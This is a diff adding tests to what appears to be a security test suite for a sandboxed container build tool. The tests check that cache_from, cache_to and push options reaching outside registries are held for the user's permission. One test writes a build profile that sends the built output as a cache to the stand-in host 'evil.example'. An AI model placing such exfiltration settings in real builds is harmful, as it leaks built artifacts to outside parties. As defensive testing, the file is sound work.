@@ -135,9 +135,9 @@ class Loopback(attack.Attack):
         self.addCleanup(server.shutdown)
         self.host = "127.0.0.1:%d" % server.server_address[1]
 
-    def held(self, line):
+    def held(self, line, more=""):
         self.write("Dockerfile", "FROM busybox\n" + line.replace("HOST", self.host) + "\n")
-        self.profile('c:build { tag = "kit-session" }', image=None)
+        self.profile('c:build { tag = "kit-session"%s }' % more.replace("HOST", self.host), image=None)
         r = self.attempt("build", "./cnnrun.lua", timeout=120)
         self.assertEqual(self.asked, [])
         self.assertHeld(r, "have the engine fetch from", "cnnrun allow")
@@ -165,6 +165,30 @@ class Loopback(attack.Attack):
     def test_stage(self):
         """a stage is called like the image"""
         self.held("FROM busybox AS %s/x\nCOPY --from=HOST/x / /x" % self.host)
+
+    def test_cache(self):
+        """a cache that is taken from there"""
+        self.held("RUN true", ', cache_from = "HOST/x"')
+
+    def test_cache_to(self):
+        """a cache that is put there: what was built goes out"""
+        self.held("RUN true", ', cache_to = "HOST/x"')
+
+    def test_cache_away(self):
+        """the same at a registry with a name"""
+        self.write("Dockerfile", "FROM busybox\n")
+        self.profile('c:build { tag = "kit-session", cache_to = "evil.example/x" }', image=None)
+        self.assertHeld(self.attempt("build", "./cnnrun.lua"),
+                        "put what it builds into the registry evil.example, as a cache", "cnnrun allow")
+
+    def test_push(self):
+        """--push to where the user has a login, which is not granted"""
+        registry = Registry(self)
+        self.write("Dockerfile", "FROM busybox\n")
+        self.profile('c:build { tag = "%s/x" }' % registry.host, image=None)
+        r = self.attempt("build", "./cnnrun.lua", "--push", env={"DOCKER_CONFIG": registry.config})
+        self.assertNotEqual(r.code, 0)
+        self.assertIn("use your login at " + registry.host, r.err)
 
 
 if __name__ == "__main__":
